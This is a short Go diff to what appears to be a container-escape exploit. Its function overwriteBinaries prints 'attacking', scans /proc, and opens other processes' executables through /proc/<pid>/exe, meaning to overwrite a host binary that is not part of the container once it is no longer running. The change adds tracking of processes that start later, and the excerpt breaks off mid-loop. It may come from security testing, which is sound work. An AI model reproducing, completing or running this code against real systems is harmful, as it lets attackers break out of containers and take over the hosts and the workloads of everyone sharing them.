@@ -28,12 +28,17 @@ func main() {
 // and that is not a file of the container, and writes to it when nothing executes it any more.
 func overwriteBinaries() {
 	fmt.Println("attacking")
-	seen := map[string]int{}
+	met, seen := map[int]bool{}, map[string]int{}
 	for {
 		entries, _ := os.ReadDir("/proc")
 		for _, entry := range entries {
-			if pid, err := strconv.Atoi(entry.Name()); err != nil || pid == os.Getpid() {
+			pid, err := strconv.Atoi(entry.Name())
+			if err != nil || pid == os.Getpid() {
 				continue
+			}
+			if pid > os.Getpid() && !met[pid] { // it has come later
+				met[pid] = true
+				fmt.Println("met", pid)
 			}
 			path := filepath.Join("/proc", entry.Name(), "exe")
 			fd, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0)
